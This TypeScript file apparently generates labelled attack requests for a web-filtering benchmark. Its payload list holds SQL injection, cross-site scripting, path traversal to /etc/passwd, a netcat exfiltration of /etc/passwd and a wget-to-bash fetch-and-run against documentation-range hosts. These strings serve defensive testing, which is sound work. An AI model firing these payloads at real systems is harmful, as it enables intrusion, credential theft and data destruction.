/**
 * Plain attacks of the classes that every rule set knows, in the places where they come: an argument of a page, a field
 * of a form, a value in JSON. Written for this bench.
 */
import { formFields, navigationFields, scriptFields, type Visit } from './browser.ts';
import type { Choices } from './random.ts';
import { COUNTER, type Sample } from './sample.ts';
import { oneWord } from './words.ts';

const ATTACKS: readonly string[] = [
  `${COUNTER}' UNION SELECT user, password FROM users-- `,
  `${COUNTER}' OR '1'='1' -- `,
  `1; DROP TABLE orders${COUNTER}; --`,
  `<script>alert(${COUNTER})</script>`,
  `"><img src=x onerror=alert(${COUNTER})>`,
  `../../../../etc/passwd?${COUNTER}`,
  `..\\..\\..\\windows\\win.ini?${COUNTER}`,
  `; cat /etc/passwd | nc 192.0.2.${COUNTER}`,
  `$(wget http://192.0.2.7/${COUNTER}.sh -O- | bash)`,
];

export function attackSample(choices: Choices, visit: Visit): Sample {
  const attack = choices.of(ATTACKS);
  const word = oneWord(choices);
  switch (choices.number(0, 2)) {
    case 0: {
      const target = `/search?q=${escape(attack)}&page=${choices.number(1, 20)}&sort=${word}`;
      return {
        method: 'GET',
        target,
        fields: navigationFields(visit.session, '/'),
        body: '',
        isAttack: true,
      };
    }
    case 1: {
      const fields = formFields(visit.session, '/login', 'application/x-www-form-urlencoded');
      const body = `user=${escape(attack)}&password=${word}&remember=1`;
      return { method: 'POST', target: '/login', fields, body, isAttack: true };
    }
    default: {
      const fields = scriptFields(visit.session, '/cart', 'application/json');
      const body = JSON.stringify({
        items: [{ id: choices.number(1, 999), count: 1 }],
        note: attack,
        coupon: word,
      });
      return { method: 'POST', target: '/api/cart', fields, body, isAttack: true };
    }
  }
}

/** As a form does, but for the counter, which is to stay as it is. */
function escape(text: string): string {
  return text.split(COUNTER).map(encodeURIComponent).join(COUNTER);
}
